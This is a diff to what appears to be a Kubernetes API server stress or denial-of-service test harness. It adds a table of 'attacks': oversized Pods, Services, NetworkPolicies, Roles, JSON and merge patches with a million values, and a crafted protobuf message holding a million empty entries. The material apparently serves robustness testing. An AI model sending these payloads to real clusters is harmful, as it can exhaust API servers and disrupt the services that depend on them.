@@ -75,6 +75,21 @@ const MAPS = '/api/v1/namespaces/default/configmaps';
 const many = (n, f) => Array.from({ length: n }, (_, i) => f(i));
 const mine = agent();
 
+/** A Pod in protobuf whose spec has containers (field 2) of two bytes each. */
+function emptyMessages() {
+  const framed = (field, bytes) => {
+    const length = [];
+    for (let n = bytes.length; ; n = Math.floor(n / 128)) {
+      length.push(n > 127 ? (n % 128) + 128 : n);
+      if (n <= 127) break;
+    }
+    return Buffer.concat([Buffer.from([field * 8 + 2, ...length]), bytes]);
+  };
+  const spec = framed(2, Buffer.concat(many(1_000_000, () => Buffer.from([18, 0]))));
+  const type = framed(1, Buffer.concat([framed(1, Buffer.from('v1')), framed(2, Buffer.from('Pod'))]));
+  return Buffer.concat([Buffer.from([0x6b, 0x38, 0x73, 0]), type, framed(2, spec)]);
+}
+
 const attacks = {
   'nothing': () => sleep(1500),
   'a quantity with an exponent of 18 digits': () =>
@@ -92,6 +107,29 @@ const attacks = {
     request(mine, 'POST', '/api/v1/namespaces/default/resourcequotas?dryRun=All', JSON.stringify({ apiVersion: 'v1', kind: 'ResourceQuota', metadata: { name: 'x' }, spec: { hard: { pods: '1' }, scopes: many(20_000, (i) => `s${i}`) } })),
   '9,000 quota scopes': () =>
     request(mine, 'POST', '/api/v1/namespaces/default/resourcequotas?dryRun=All', JSON.stringify({ apiVersion: 'v1', kind: 'ResourceQuota', metadata: { name: 'x' }, spec: { hard: { pods: '1' }, scopes: many(9_000, (i) => `s${i}`) } })),
+  '9,999 containers': () => request(mine, 'POST', PODS, pod({ containers: many(9_999, (i) => ({ name: `c${i}`, image: 'i' })) })),
+  '9,999 volumes': () => request(mine, 'POST', PODS, pod({ containers: [container], volumes: many(9_999, (i) => ({ name: `v${i}`, emptyDir: {} })) })),
+  '100 containers with 240 variables each': () =>
+    request(mine, 'POST', PODS, pod({ containers: many(100, (i) => ({ name: `c${i}`, image: 'i', env: many(240, (j) => ({ name: `A${j}`, value: 'b' })) })) })),
+  '9,999 ports of a service': () =>
+    request(mine, 'POST', '/api/v1/namespaces/default/services?dryRun=All', JSON.stringify({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'x' }, spec: { ports: many(9_999, (i) => ({ name: `p${i}`, port: i + 1 })) } })),
+  '9,999 subsets of endpoints': () =>
+    request(mine, 'POST', '/api/v1/namespaces/default/endpoints?dryRun=All', JSON.stringify({ apiVersion: 'v1', kind: 'Endpoints', metadata: { name: 'x' }, subsets: many(9_999, (i) => ({ addresses: [{ ip: `10.1.${i >> 8}.${i & 255}` }], ports: [{ port: 1 + i }] })) })),
+  '24,000 blocks of a network policy': () =>
+    request(mine, 'POST', '/apis/networking.k8s.io/v1/namespaces/default/networkpolicies?dryRun=All', JSON.stringify({ apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'x' }, spec: { podSelector: {}, ingress: many(100, () => ({ from: many(240, (i) => ({ ipBlock: { cidr: `10.0.${i}.0/24` } })) })) } })),
+  '9,999 rules of an ingress': () =>
+    request(mine, 'POST', '/apis/networking.k8s.io/v1/namespaces/default/ingresses?dryRun=All', JSON.stringify({ apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'x' }, spec: { rules: many(9_999, (i) => ({ host: `a${i}.b`, http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'a', port: { number: 1 } } } }] } })) } })),
+  '9,999 rules of a role': () =>
+    request(mine, 'POST', '/apis/rbac.authorization.k8s.io/v1/namespaces/default/roles?dryRun=All', JSON.stringify({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', metadata: { name: 'x' }, rules: many(9_999, (i) => ({ apiGroups: [''], resources: [`p${i}`], verbs: ['get'] })) })),
+  'apply of 9,999 variables': () =>
+    request(mine, 'PATCH', `/api/v1/namespaces/default/pods/x?dryRun=All&fieldManager=a`, pod({ containers: [{ ...container, env: many(9_999, (i) => ({ name: `A${i}`, value: 'b' })) }] }), 'application/apply-patch+yaml'),
+  'a JSON patch of 9,990 operations': () =>
+    request(mine, 'PATCH', `/api/v1/namespaces/default?dryRun=All`, JSON.stringify(many(9_990, (i) => ({ op: 'add', path: `/metadata/annotations/a${i}`, value: 'x' }))), 'application/json-patch+json'),
+  'a JSON patch with a value of a million values': () =>
+    request(mine, 'PATCH', `/api/v1/namespaces/default?dryRun=All`, `[{"op":"add","path":"/spec/x","value":[${'{},'.repeat(990_000)}{}]}]`, 'application/json-patch+json'),
+  'a merge patch of a million values': () =>
+    request(mine, 'PATCH', `/api/v1/namespaces/default?dryRun=All`, `{"spec":{"x":[${'{},'.repeat(990_000)}{}]}}`, 'application/merge-patch+json'),
+  'a million empty messages of protobuf': () => request(mine, 'POST', PODS, emptyMessages(), 'application/vnd.kubernetes.protobuf'),
   '3 MB of YAML': () => request(mine, 'POST', MAPS, `a: [${'x,'.repeat(1_400_000)}]`, 'application/yaml'),
   '400 idle connections': async () => {
     const sockets = many(400, () => net.connect(port, host).on('error', () => {}));
